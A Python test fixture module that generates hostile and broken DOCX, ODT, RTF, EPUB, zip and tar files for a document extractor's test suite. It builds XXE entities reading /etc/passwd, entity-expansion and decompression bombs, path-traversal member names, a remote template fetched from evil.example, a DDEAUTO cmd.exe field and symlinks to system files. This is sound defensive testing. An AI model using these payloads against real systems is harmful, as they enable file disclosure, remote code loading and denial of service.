"""Documents of office programs, e-books and archives: bombs, damage, and paths that lead out."""

from __future__ import annotations

import io
import tarfile
import zipfile
from functools import reduce
from typing import TYPE_CHECKING

from tests.corpus import office
from tests.corpus.office import par, zipped

if TYPE_CHECKING:
    from .sentence import Makers

_ENTITY = "<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
_LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a 'hahaha'>"
    + "".join(f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9))
    + "]>"
)


def _word(xml: str, head: str = "") -> bytes:
    main = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    document = f"{head}<w:document xmlns:w='{main}'><w:body>{xml}</w:body></w:document>"
    return zipped({"word/document.xml": document})


def _para(body: str) -> str:
    return f"<text:p>{body}</text:p>"


def _rtf(body: str) -> bytes:
    return b"{\\rtf1\\ansi " + body.encode() + b"}"


def _with(data: bytes, **members: str) -> bytes:
    """A zip file with further members."""
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def _tar(sentence: str, *infos: tarfile.TarInfo) -> bytes:
    """A tar file of one article, and of members without content."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for info in infos:
            archive.addfile(info)
        article = tarfile.TarInfo("article.txt")
        article.size = len(sentence.encode())
        archive.addfile(article, io.BytesIO(sentence.encode()))
    return out.getvalue()


def _member(name: str, kind: bytes, target: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info


def _nested(sentence: str, depth: int) -> bytes:
    start = zipped({"a.txt": sentence})
    return reduce(lambda inner, n: zipped({f"{n}.zip": inner}), range(depth), start)


def _book(**changed: str) -> bytes:
    members = {
        "META-INF/container.xml": "<container><rootfiles><rootfile full-path='b.opf'/>"
        "</rootfiles></container>",
        "b.opf": "<package><manifest><item id='a' href='a.xhtml' media-type="
        "'application/xhtml+xml'/></manifest><spine><itemref idref='a'/></spine></package>",
        "a.xhtml": "<html><body><p>x</p></body></html>",
    }
    return zipped({**members, **changed})


READ: Makers = {
    "word/entity.docx": lambda s: _word(par(s) + "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", _ENTITY),
    "word/laughs.docx": lambda s: _word(par(s) + "<w:p><w:r><w:t>&j;</w:t></w:r></w:p>", _LAUGHS),
    "word/many.docx": lambda s: _word(par(s) + par("x") * 500),
    "word/not-closed.docx": lambda s: _word(par(s) + "<w:p><w:r>"),
    "word/leads-out.docx": lambda s: _with(_word(par(s)), **{"../../evil.txt": "x", "/etc/x": "y"}),
    "word/remote.docx": lambda s: _with(
        _word(par(s)),
        **{
            "word/_rels/document.xml.rels": "<Relationships><Relationship Id='r' TargetMode="
            "'External' Target='http://evil.example/t.dotm' Type='template'/></Relationships>"
        },
    ),
    "word/field.docx": lambda s: _word(
        par(s) + "<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"
    ),
    "word/entity.odt": lambda s: office.odt(_para(s)),
    "word/blanks.odt": lambda s: office.odt(_para(s + "<text:s text:c='999999999'/>x")),
    "word/repeated.odt": lambda s: office.odt(
        _para(s) + "<table:table><table:table-row table:number-rows-repeated='999999999'>"
        "<table:table-cell table:number-columns-repeated='999999999'><text:p>x</text:p>"
        "</table:table-cell></table:table-row></table:table>"
    ),
    "word/deep.rtf": lambda s: _rtf(s + "{" * 20_000),
    "word/closed-twice.rtf": lambda s: _rtf(s + "\\par }}}}}"),
    "word/binary.rtf": lambda s: _rtf(s + "\\par \\bin999999999999 x"),
    "word/numbers.rtf": lambda s: _rtf(s + "\\par \\u-99999999999? \\uc999999999 \\'zz \\u55357?"),
    "word/object.rtf": lambda s: _rtf("{\\object{\\*\\objdata " + "0105" * 9000 + "}}" + s),
    "word/words.rtf": lambda s: _rtf(s + "\\par " + "\\" + "a" * 2000),
    "books/chapter.epub": lambda s: _book(
        **{"a.xhtml": f"<html><body><h1>A</h1><p>{s}</p></body></html>"}
    ),
    "books/same-chapter.epub": lambda s: _book(
        **{
            "a.xhtml": f"<html><body><p>{s}</p></body></html>",
            "b.opf": "<package><manifest><item id='a' href='a.xhtml' "
            "media-type='application/xhtml+xml'/></manifest><spine>"
            + "<itemref idref='a'/>" * 300
            + "</spine></package>",
        }
    ),
    "archives/leads-out.zip": lambda s: zipped({"../../../a.txt": s}),
    "archives/root.zip": lambda s: zipped({"/etc/a.txt": s}),
    "archives/odd-names.zip": lambda s: zipped({"<img src=x onerror=alert(1)>\n.txt": s}),
    "archives/links.tar": lambda s: _tar(
        s,
        _member("a.txt", tarfile.SYMTYPE, "/etc/passwd"),
        _member("b.txt", tarfile.LNKTYPE, "../x"),
    ),
    "archives/devices.tar": lambda s: _tar(
        s, _member("zero.txt", tarfile.CHRTYPE), _member("pipe.txt", tarfile.FIFOTYPE)
    ),
}

REFUSED: Makers = {
    "archives/cut.tar": lambda s: office.tarred({"a.txt": s.encode(), "b.txt": bytes(9000)}, "w")[
        :3000
    ],
    "archives/nested.zip": lambda s: _nested(s, 1),
    "word/deep.docx": lambda s: _word(par(s) + "<w:tbl><w:tr><w:tc>" * 3000),
    "word/deep.odt": lambda s: office.odt(_para(s) + "<text:section>" * 3000),
    "word/old.docx": lambda _: b"\xd0\xcf\x11\xe0" + bytes(2000),
    "word/not-a-zip.docx": lambda s: s.encode(),
    "word/cut.docx": lambda s: _word(par(s))[:-40],
    "word/no-document.docx": lambda _: zipped({"a.txt": "x"}),
    "word/bomb.docx": lambda _: zipped({"word/document.xml": bytes(30_000_000)}),
    "word/not-xml.docx": lambda s: zipped({"word/document.xml": s}),
    "word/empty.docx": lambda _: zipped({}),
    "word/empty.odt": lambda _: office.odt(""),
    "word/not-rtf.rtf": lambda s: s.encode(),
    "word/no-text.rtf": lambda _: _rtf("{\\pict " + "00" * 9000 + "}"),
    "books/no-container.epub": lambda _: zipped({"a.xhtml": "x"}),
    "books/leads-out.epub": lambda _: _book(
        **{
            "META-INF/container.xml": "<container><rootfiles>"
            "<rootfile full-path='../../etc/passwd'/></rootfiles></container>"
        }
    ),
    "books/bomb.epub": lambda _: _book(**{"a.xhtml": "x" * 30_000_000}),
    "archives/not-a-zip.zip": lambda s: s.encode(),
    "archives/bomb.zip": lambda _: zipped({"a.txt": bytes(30_000_000)}),
    "archives/too-deep.zip": lambda s: _nested(s, 6),
    "archives/many.zip": lambda _: zipped({f"{n}.txt": "x" for n in range(6000)}),
    "archives/not-a-tar.tar": lambda s: s.encode() * 50,
    "archives/not-packed.tgz": lambda s: s.encode(),
    "archives/bomb.tgz": lambda _: office.tarred({"a.txt": bytes(30_000_000)}),
}

PARTLY: Makers = {
    "archives/members.zip": lambda s: zipped({"a.txt": s, "b.exe": "x", "c.pdf": "y", "d.txt": ""}),
}
